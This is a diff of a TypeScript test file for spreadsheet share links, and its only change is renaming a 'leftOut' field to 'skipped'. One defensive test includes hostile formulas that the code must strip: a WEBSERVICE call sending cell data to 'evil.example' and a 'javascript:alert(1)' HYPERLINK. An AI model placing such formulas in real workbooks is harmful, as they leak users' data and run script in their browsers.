@@ -15,7 +15,7 @@ const book = (cells: object, name: unknown = 'Sheet1', widths: object = {}) =>
   fragment({ v: 1, s: [[name, cells, widths]] });
 const shared = (cells: SharedWorkbook['sheets'][number]['cells']): SharedWorkbook => ({
   sheets: [{ name: 'Sheet1', cells, widths: { 0: 240 } }],
-  leftOut: [],
+  skipped: [],
 });
 
 it('brings back what was typed', async () => {
@@ -33,9 +33,9 @@ it('brings back what was typed', async () => {
     },
     { name: 'Second', cells: {}, widths: {} },
   ];
-  const link = await linkTo(address, { sheets, leftOut: [] });
+  const link = await linkTo(address, { sheets, skipped: [] });
   expect(link.startsWith(`${address}#book=`)).toBe(true);
-  expect(await readLink(new URL(link).hash)).toEqual({ sheets, leftOut: [] });
+  expect(await readLink(new URL(link).hash)).toEqual({ sheets, skipped: [] });
 });
 
 it('says by how much a workbook is too large', async () => {
@@ -51,11 +51,11 @@ it('says by how much a workbook is too large', async () => {
 it('does not write a link that it would not read', async () => {
   await expect(linkTo(address, shared({ ZZ1: { content: 1 } }))).rejects.toThrow(/60 columns/);
   const sheets = [{ name: 'a/b', cells: {} }];
-  await expect(linkTo(address, { sheets, leftOut: [] })).rejects.toThrow(LinkFault);
+  await expect(linkTo(address, { sheets, skipped: [] })).rejects.toThrow(LinkFault);
 });
 
 it('leaves out formulas that reach outside or change by themselves', async () => {
-  const { sheets, leftOut } = await readLink(
+  const { sheets, skipped } = await readLink(
     book({
       A1: '=WEBSERVICE("https://evil.example/?"&B1)',
       A2: '=HYPERLINK("javascript:alert(1)")',
@@ -64,7 +64,7 @@ it('leaves out formulas that reach outside or change by themselves', async () =>
     }),
   );
   expect(Object.keys(sheets[0]!.cells)).toEqual(['A4']);
-  expect(leftOut).toEqual(['Sheet1!A1 uses WEBSERVICE', 'Sheet1!A2 uses HYPERLINK', 'Sheet1!A3 uses NOW']);
+  expect(skipped).toEqual(['Sheet1!A1 uses WEBSERVICE', 'Sheet1!A2 uses HYPERLINK', 'Sheet1!A3 uses NOW']);
 });
 
 it('takes only formats that can be drawn', async () => {
